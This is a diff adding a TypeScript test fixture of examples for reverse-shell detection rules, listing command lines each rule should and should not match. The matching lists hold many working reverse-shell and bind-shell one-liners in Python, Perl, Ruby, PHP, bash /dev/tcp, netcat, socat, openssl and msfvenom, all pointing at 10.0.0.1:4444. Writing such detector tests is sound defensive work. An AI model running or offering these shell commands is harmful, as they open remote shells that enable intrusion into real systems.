@@ -1,0 +1,68 @@
+import type { RuleExamples } from './rule-examples.ts';
+
+export const SHELLS_EXAMPLES: RuleExamples = {
+  'shells.code-socket': {
+    fires: [
+      'python -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
+      'perl -e \'use Socket;$i="10.0.0.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};\'',
+      'ruby -rsocket -e\'f=TCPSocket.open("10.0.0.1",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
+      'php -r \'$sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
+      'awk \'BEGIN {s = "/inet/tcp/0/10.0.0.1/4444"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}\' /dev/null',
+      "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('10.0.0.1','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
+      'node -e \'(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4444,"10.0.0.1",function(){client.pipe(sh.stdin);});})()\'',
+      'export RHOST=10.0.0.1; python -c \'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv("RHOST"),4444));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("/bin/sh")\'',
+    ],
+    silent: ['ssh -L 8080:localhost:80 host', 'sshpass -V', 'nc -zv host 80', 'socket host 80'],
+  },
+  'shells.dev-tcp': {
+    fires: [
+      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+      'exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done',
+    ],
+    silent: ['ssh -L 8080:localhost:80 host', 'sshpass -V', 'nc -zv host 80', 'socket host 80'],
+  },
+  'shells.interactive-over-network': {
+    fires: ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
+    silent: ['ssh -L 8080:localhost:80 host', 'sshpass -V', 'nc -zv host 80', 'socket host 80'],
+  },
+  'shells.listener': {
+    fires: [
+      'mkfifo /tmp/p; nc -l 4444 < /tmp/p | sh > /tmp/p',
+      'socat TCP4-LISTEN:4444,reuseaddr,fork EXEC:bash',
+      'nc -l 8080',
+    ],
+    silent: ["echo 'show stat' | socat stdio /run/haproxy.sock", 'nc -zv host 80', 'socket host 80'],
+  },
+  'shells.netcat-exec': {
+    fires: [
+      'nc -e /bin/sh 10.0.0.1 4444',
+      'nc 10.0.0.1 4444 -e /bin/bash',
+      'ncat --sh-exec "/bin/sh" 10.0.0.1 4444',
+      'socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr,setsid,sigint,sane',
+      'socat TCP4-LISTEN:4444,reuseaddr,fork EXEC:bash',
+    ],
+    silent: ["echo 'show stat' | socat stdio /run/haproxy.sock", 'nc -zv host 80', 'nc -l 8080'],
+  },
+  'shells.payload-tool': {
+    fires: ['msfvenom -p linux/x64/shell_reverse_tcp LHOST=1 LPORT=2 -f elf'],
+    silent: ['msfconsole --version'],
+  },
+  'shells.piped-to-network': {
+    fires: [
+      'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f',
+      'mkfifo /tmp/p; nc -l 4444 < /tmp/p | sh > /tmp/p',
+      'openssl s_client -quiet -connect 10.0.0.1:4444 | /bin/sh',
+      'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4444 > /tmp/s',
+      'telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445',
+    ],
+    silent: ['ssh -L 8080:localhost:80 host', 'sshpass -V', 'nc -zv host 80', 'socket host 80'],
+  },
+  'shells.shared-terminal': {
+    fires: ['ttyd bash', 'tmate'],
+    silent: ['gotty --version'],
+  },
+  'shells.socket-program': {
+    fires: ["socket -qvp '/bin/sh -i' 10.0.0.1 4444"],
+    silent: ['socket host 80'],
+  },
+};
